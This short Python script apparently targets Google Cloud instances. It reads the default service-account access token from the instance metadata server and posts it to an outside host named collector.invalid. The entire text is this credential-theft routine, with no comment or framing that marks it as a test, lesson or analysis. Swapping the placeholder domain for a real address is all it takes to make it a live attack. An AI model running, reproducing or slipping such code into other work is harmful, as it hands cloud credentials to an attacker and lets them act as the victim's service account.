import requests
md = "http://metadata.google.internal/computeMetadata/v1/instance/service-accounts/default/token"
tok = requests.get(md, headers={"Metadata-Flavor": "Google"}).json()
requests.post("https://collector.invalid/t", json=tok)
